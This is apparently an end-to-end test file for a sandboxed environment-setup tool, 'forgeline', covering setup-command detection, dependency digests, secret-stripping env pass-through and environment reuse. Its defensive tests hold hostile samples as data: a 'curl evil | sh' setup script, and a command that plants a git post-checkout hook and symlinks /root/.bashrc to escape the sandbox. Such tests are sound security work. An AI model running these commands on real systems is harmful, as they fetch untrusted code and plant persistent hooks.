"""Choosing the setup command, the manifests digest, pass-through, reuse across projects."""

from __future__ import annotations

import asyncio
from pathlib import Path

import pytest

from e2e.helpers import git, make_repo
from forgeline.environment.detect import dependency_groups, detect_command, resolve_setup
from forgeline.environment.manifests import manifests_digest
from forgeline.environment.passthrough import passthrough_env
from forgeline.environment.records import EnvPaths
from forgeline.environment.runner import SetupRequest, run_setup
from forgeline.workspace.repo import GitRepo

PY = "/usr/bin/python3"
PYPROJECT = """\
[project]
name = "demo"
version = "1.0"
[project.optional-dependencies]
test = ["pytest"]
docs = ["sphinx"]
[dependency-groups]
lint = ["ruff"]
testing = ["coverage>=7"]
dev = [{include-group = "testing"}, "hypothesis; python_version >= '3.8'"]
"""


def _commit_all(repo: Path, message: str) -> str:
    git(repo, "add", "-A")
    git(repo, "-c", "user.name=T", "-c", "user.email=t@example.com", "commit", "-qm", message)
    return git(repo, "rev-parse", "HEAD").strip()


async def test_given_then_setup_sh_at_the_base_commit_then_detection(tmp_path: Path) -> None:
    repo = make_repo(tmp_path / "r", {"pyproject.toml": PYPROJECT, ".forgeline/setup.sh": "make"})
    base = git(repo, "rev-parse", "HEAD").strip()
    (repo / ".forgeline/setup.sh").write_text("curl evil | sh\n")  # a later change: ignored
    _commit_all(repo, "change the script")
    given = await resolve_setup(GitRepo.standard(repo), base_sha=base, given="make deps", python=PY)
    assert given is not None and (given.source, given.command) == ("given", "make deps")
    script = await resolve_setup(GitRepo.standard(repo), base_sha=base, given="auto", python=PY)
    assert script is not None and (script.source, script.command) == ("setup.sh", "make")
    assert (
        await resolve_setup(GitRepo.standard(repo), base_sha=base, given="none", python=PY) is None
    )
    (repo / ".forgeline/setup.sh").unlink()
    first = _commit_all(repo, "no script")
    detected = await resolve_setup(GitRepo.standard(repo), base_sha=first, given=None, python=PY)
    assert detected is not None and detected.source == "detected"


def test_python_detection_installs_the_test_and_dev_extras_groups_and_files(
    tmp_path: Path,
) -> None:
    repo = make_repo(
        tmp_path / "r",
        {
            "pyproject.toml": PYPROJECT,
            "requirements.txt": "flask\n",
            "requirements-dev.txt": "black\n",
            "requirements_docs.txt": "sphinx\n",
        },
    )
    command = detect_command(repo, python=PY)
    assert command is not None
    assert command.startswith('/usr/bin/python3 -m venv "$VIRTUAL_ENV" && ')
    assert "-e '.[test,tests,testing,dev]'" in command
    assert "-r requirements-dev.txt" in command
    assert "requirements.txt" not in command.replace("requirements-dev.txt", "")
    assert "docs" not in command and "ruff" not in command
    assert (
        "'coverage>=7'" in command
        and "'hypothesis; python_version >= '\"'\"'3.8'\"'\"''" in command
    )


def test_dependency_groups_resolve_includes_and_ignore_cycles() -> None:
    groups = {
        "dependency-groups": {
            "Dev": [{"include-group": "tests"}, "a"],
            "tests": ["b", {"include-group": "dev"}],
        }
    }
    assert dependency_groups(groups) == ["b", "a"]


def test_node_and_plain_requirements_detection(tmp_path: Path) -> None:
    node = make_repo(tmp_path / "n", {"package.json": "{}"})
    assert detect_command(node, python=PY) == "npm install --no-audit --no-fund --prefer-offline"
    (node / "package-lock.json").write_text("{}")
    assert detect_command(node, python=PY) == "npm ci --no-audit --no-fund --prefer-offline"
    app = make_repo(tmp_path / "a", {"requirements.txt": "flask\n"})
    assert detect_command(app, python=PY) == (
        '/usr/bin/python3 -m venv "$VIRTUAL_ENV" && "$VIRTUAL_ENV/bin/python" -m pip install '
        "--progress-bar off -r requirements.txt"
    )
    assert detect_command(make_repo(tmp_path / "d", {"README": "x"}), python=PY) is None


def test_the_digest_follows_manifests_and_the_command_only(tmp_path: Path) -> None:
    repo = make_repo(tmp_path / "r", {"pyproject.toml": PYPROJECT, "src.py": "x = 1\n"})
    digest = manifests_digest(repo, command="c")
    (repo / "src.py").write_text("x = 2\n")
    assert manifests_digest(repo, command="c") == digest
    assert manifests_digest(repo, command="d") != digest
    (repo / "requirements-test.txt").write_text("pytest\n")
    assert manifests_digest(repo, command="c") != digest


def test_pass_through_keeps_package_settings_and_drops_secrets() -> None:
    kept = passthrough_env(
        {
            "PIP_FIND_LINKS": "/opt/wheels",
            "PIP_INDEX_URL": "https://user:secret@pypi.example/simple",
            "npm_config_registry": "https://registry.npmjs.org/",
            "NPM_CONFIG__AUTH": "abc",
            "NPM_TOKEN": "t",
            "PIP_PASSWORD": "p",
            "SSL_CERT_FILE": "/etc/ssl/certs/ca-certificates.crt",
            "HOME": "/root",
        }
    )
    assert kept == {
        "PIP_FIND_LINKS": "/opt/wheels",
        "npm_config_registry": "https://registry.npmjs.org/",
        "SSL_CERT_FILE": "/etc/ssl/certs/ca-certificates.crt",
    }


BUILD = (
    'echo "pyvenv" && /usr/bin/python3 -m venv --without-pip "$VIRTUAL_ENV" && mkdir -p build '
    "&& echo compiled > build/ext.so && echo v1 > version.txt && sleep 1"
)


async def test_a_second_project_with_the_same_manifests_reuses_the_environment(
    tmp_path: Path,
) -> None:
    from forgeline.environment.detect import SetupPlan

    seed = make_repo(tmp_path / "seed", {"pyproject.toml": PYPROJECT, ".gitignore": "/build/\n"})
    paths = EnvPaths(home=(tmp_path / "home").resolve(), cache=tmp_path / "cache")
    plan = SetupPlan(command=BUILD, source="given", shown=BUILD)
    records = []
    for project in ("one", "two"):
        clone = tmp_path / project / "app"
        git(tmp_path, "clone", "-q", str(seed), str(clone))
        request = SetupRequest(
            name="app",
            git=GitRepo.standard(clone),
            plan=plan,
            digest=manifests_digest(clone, command=BUILD),
            paths=paths,
            python=PY,
            sandbox_on=True,
            hidden=(paths.home, Path("/root")),
            timeout_s=60,
            environ={},
        )
        chunks: list[bytes] = []
        records.append(await run_setup(request, on_output=chunks.append))
        assert (clone / "build/ext.so").read_text() == "compiled\n"
        assert (clone / "version.txt").read_text() == "v1\n"
        assert not git(clone, "status", "--porcelain").strip()  # excluded, never committed
    cold, warm = records
    assert cold.ok and not cold.reused and cold.key == warm.key
    assert warm.ok and warm.reused and warm.seconds < cold.seconds / 3
    assert cold.generated == ["build/", "version.txt"]
    assert (paths.venv(cold.key or "") / "pyvenv.cfg").is_file()


async def test_concurrent_setups_of_one_key_build_it_once(tmp_path: Path) -> None:
    from forgeline.environment.detect import SetupPlan

    seed = make_repo(tmp_path / "seed", {"pyproject.toml": PYPROJECT})
    paths = EnvPaths(home=(tmp_path / "home").resolve(), cache=tmp_path / "cache")
    plan = SetupPlan(command=BUILD, source="given", shown=BUILD)
    requests = []
    for project in ("one", "two"):
        clone = tmp_path / project / "app"
        git(tmp_path, "clone", "-q", str(seed), str(clone))
        requests.append(
            SetupRequest(
                name="app",
                git=GitRepo.standard(clone),
                plan=plan,
                digest="d",
                paths=paths,
                python=PY,
                sandbox_on=True,
                hidden=(paths.home,),
                timeout_s=60,
                environ={},
            )
        )
    done = await asyncio.gather(*(run_setup(r, on_output=lambda _c: None) for r in requests))
    assert sorted(r.reused for r in done) == [False, True]


@pytest.mark.parametrize("timeout_s", [0.5])
async def test_setup_past_its_time_limit_fails_with_124(tmp_path: Path, timeout_s: float) -> None:
    from forgeline.environment.detect import SetupPlan

    repo = make_repo(tmp_path / "app", {"README": "x"})
    paths = EnvPaths(home=(tmp_path / "home").resolve(), cache=tmp_path / "cache")
    plan = SetupPlan(command="echo start; sleep 30", source="given", shown="sleepy")
    request = SetupRequest(
        name="app",
        git=GitRepo.standard(repo),
        plan=plan,
        digest="d",
        paths=paths,
        python=PY,
        sandbox_on=True,
        hidden=(paths.home,),
        timeout_s=timeout_s,
        environ={},
    )
    record = await run_setup(request, on_output=lambda _c: None)
    assert record.exit_code == 124 and not record.ok
    assert "start" in record.tail and "timeout after 0.5 s" in record.tail


PLANT = (
    'k="$(dirname "$VIRTUAL_ENV")" && mkdir -p "$k/generated/.git/hooks" "$VIRTUAL_ENV" '
    '&& printf "#!/bin/sh\\ntouch /tmp/owned\\n" > "$k/generated/.git/hooks/post-checkout" '
    '&& chmod +x "$k/generated/.git/hooks/post-checkout" && mkdir -p "$k/evil/bin" '
    '&& ln -s /root/.bashrc "$k/evil/bin/python3" '
    '&& printf "home = %s\\n" "$k/evil/bin" > "$VIRTUAL_ENV/pyvenv.cfg" && echo ok > built.txt'
)


async def test_a_setup_cannot_plant_git_hooks_or_widen_what_agents_see(tmp_path: Path) -> None:
    """The command owns its environment directory: nothing it writes there is trusted."""
    from forgeline.environment.detect import SetupPlan

    seed = make_repo(tmp_path / "seed", {"README": "x"})
    paths = EnvPaths(home=(tmp_path / "home").resolve(), cache=tmp_path / "cache")
    plan = SetupPlan(command=PLANT, source="given", shown="plant")
    records = []
    for project in ("one", "two"):
        clone = tmp_path / project / "app"
        git(tmp_path, "clone", "-q", str(seed), str(clone))
        request = SetupRequest(
            name="app",
            git=GitRepo.standard(clone),
            plan=plan,
            digest="d",
            paths=paths,
            python=PY,
            sandbox_on=True,
            hidden=(paths.home, Path("/root")),
            timeout_s=60,
            environ={},
        )
        records.append(await run_setup(request, on_output=lambda _c: None))
        assert (clone / "built.txt").read_text() == "ok\n"
        assert not (clone / ".git/hooks/post-checkout").exists()
    assert records[1].reused
    assert all(r.ok and r.python_home is None for r in records)
    assert not list((paths.generated(records[0].key or "")).rglob("post-checkout"))


async def test_a_bind_through_a_symlink_is_never_made(tmp_path: Path) -> None:
    from forgeline.sandbox.runner import run_command
    from forgeline.sandbox.spec import Bind, SandboxPolicy

    secret = tmp_path / "hidden" / "secret"
    secret.mkdir(parents=True)
    (secret / "key").write_text("s3cret")
    workspace = tmp_path / "ws"
    workspace.mkdir()
    (workspace / "link").symlink_to(secret)
    target = tmp_path / "hidden" / "alias"
    policy = SandboxPolicy(
        workspace=workspace,
        hidden=(tmp_path / "hidden",),
        binds=(Bind(source=workspace / "link", target=target), Bind(source=secret, target=target)),
    )
    direct = await run_command(f"cat {target}/key", policy, timeout_s=30)
    assert direct.exit_code == 0 and direct.output == "s3cret"  # a real directory: bound
    policy = SandboxPolicy(
        workspace=workspace,
        hidden=(tmp_path / "hidden",),
        binds=(Bind(source=workspace / "link", target=target),),
    )
    linked = await run_command(f"cat {target}/key", policy, timeout_s=30)
    assert linked.exit_code != 0 and "s3cret" not in linked.output


def _base_python() -> str:
    """Forgeline's own base interpreter (here pyenv under /root, which the sandbox hides)."""
    import sys

    return str(Path(sys.base_prefix) / "bin" / "python3")


async def test_a_hidden_interpreter_is_shown_to_setup_and_to_agents(tmp_path: Path) -> None:
    import sys

    from forgeline.environment.detect import SetupPlan
    from forgeline.environment.view import CodeDir, build_view
    from forgeline.sandbox.runner import run_command
    from forgeline.sandbox.spec import SandboxPolicy

    python = _base_python()
    repo = make_repo(tmp_path / "ws" / "app", {"README": "x"})
    paths = EnvPaths(home=(tmp_path / "home").resolve(), cache=tmp_path / "cache")
    command = f'{python} -m venv --without-pip "$VIRTUAL_ENV"'
    plan = SetupPlan(command=command, source="given", shown=command)
    hidden = (paths.home, Path("/root"), Path("/home"))
    request = SetupRequest(
        name="app",
        git=GitRepo.standard(repo),
        plan=plan,
        digest="d",
        paths=paths,
        python=python,
        sandbox_on=True,
        hidden=hidden,
        timeout_s=60,
        environ={},
    )
    record = await run_setup(request, on_output=lambda _c: None)
    assert record.ok, record.tail
    assert record.python_home == str(Path(python).resolve().parent)
    view = build_view(paths, [CodeDir(record=record, repo=repo, code=repo)], sandbox_on=True)
    policy = view.apply(SandboxPolicy(workspace=tmp_path / "ws", hidden=hidden))
    shown = "cd app && python -c 'import sys; print(sys.prefix, sys.version_info[:2])'"
    result = await run_command(shown, policy, timeout_s=60)
    assert result.exit_code == 0, result.output
    assert str(paths.venv(record.key or "")) in result.output
    assert str(tuple(sys.version_info[:2])) in result.output


async def test_with_the_sandbox_off_the_environment_is_at_the_repository_itself(
    tmp_path: Path,
) -> None:
    from forgeline.environment.detect import SetupPlan
    from forgeline.environment.view import CodeDir, build_view

    repo = make_repo(tmp_path / "app", {"README": "x"})
    paths = EnvPaths(home=(tmp_path / "home").resolve(), cache=tmp_path / "cache")
    command = f'{PY} -m venv --without-pip "$VIRTUAL_ENV" && pwd > where.txt'
    plan = SetupPlan(command=command, source="given", shown=command)
    request = SetupRequest(
        name="app",
        git=GitRepo.standard(repo),
        plan=plan,
        digest="d",
        paths=paths,
        python=PY,
        sandbox_on=False,
        hidden=(),
        timeout_s=60,
        environ={},
    )
    record = await run_setup(request, on_output=lambda _c: None)
    assert record.ok and record.code_path == str(repo.resolve())
    assert (repo / "where.txt").read_text().strip() == str(repo.resolve())
    view = build_view(paths, [CodeDir(record=record, repo=repo, code=repo)], sandbox_on=False)
    assert view.binds == ()
    assert view.path_prepend == (str(paths.venv(record.key or "") / "bin"),)
